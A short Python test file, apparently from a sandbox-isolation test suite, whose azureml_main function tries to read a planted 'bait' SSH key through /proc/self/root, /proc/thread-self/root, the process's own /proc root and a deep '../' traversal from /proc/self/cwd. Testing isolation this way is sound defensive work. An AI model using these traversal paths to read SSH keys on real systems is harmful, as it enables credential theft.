"""Reads the ssh key through /proc/self/root and /proc/self/cwd."""

import os

from attack import BAIT, attack, every, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    up = "/".join([".."] * 40)
    ways = ["/proc/self/root", "/proc/thread-self/root", f"/proc/{os.getpid()}/root", f"/proc/self/cwd/{up}"]
    return every(read, [way + BAIT["ssh_key"] for way in ways])
